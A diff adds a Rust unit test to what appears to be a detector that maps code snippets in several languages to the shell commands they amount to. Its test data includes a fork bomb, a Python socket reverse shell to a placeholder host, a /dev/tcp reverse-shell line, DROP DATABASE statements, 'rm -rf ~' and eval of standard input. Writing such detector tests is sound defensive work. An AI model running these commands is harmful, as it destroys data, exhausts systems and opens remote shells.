@@ -69,3 +69,39 @@ fn powershell() {
         ],
     );
 }
+
+#[test]
+fn deeds_are_written_as_the_commands_that_they_are() {
+    check(
+        Language::Python,
+        &[
+            ("while True: os.fork()", "sh :(){ :|:& };:"),
+            ("pid = os.fork()", ""),
+            (
+                "import socket,os,pty;s=socket.socket();s.connect(('h',4));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')",
+                "sh sh -i >& /dev/tcp/?/1 0>&1\nsh sh",
+            ),
+            ("import socket; print(socket.gethostname())", ""),
+            (
+                "c = psycopg2.connect('x')\nc.cursor().execute('DROP DATABASE app')",
+                "run psql|-c|DROP DATABASE app",
+            ),
+            ("cur.execute('SELECT 1')", ""),
+            ("c = sqlite3.connect(':memory:'); c.execute('DROP TABLE t')", ""),
+            ("subprocess.run(shlex.split('git push -f'))", "run git|push|-f"),
+            ("import sys; exec(sys.stdin.read())", "unresolved read from standard input"),
+            ("import sys; print(sys.stdin.read())", ""),
+            ("!rm -rf ~", "sh rm -rf ~"),
+        ],
+    );
+    check(Language::Perl, &[("fork while fork", "sh :(){ :|:& };:")]);
+    check(
+        Language::JavaScript,
+        &[
+            ("eval(require('fs').readFileSync(0, 'utf8'))", "unresolved read from standard input"),
+            ("await pool.query('DROP TABLE users')", "run psql|-c|DROP TABLE users"),
+        ],
+    );
+    check(Language::Ruby, &[("eval STDIN.read", "unresolved read from standard input")]);
+    check(Language::AppleScript, &[("a.doShellScript(\"rm -rf ~\")", "sh rm -rf ~")]);
+}
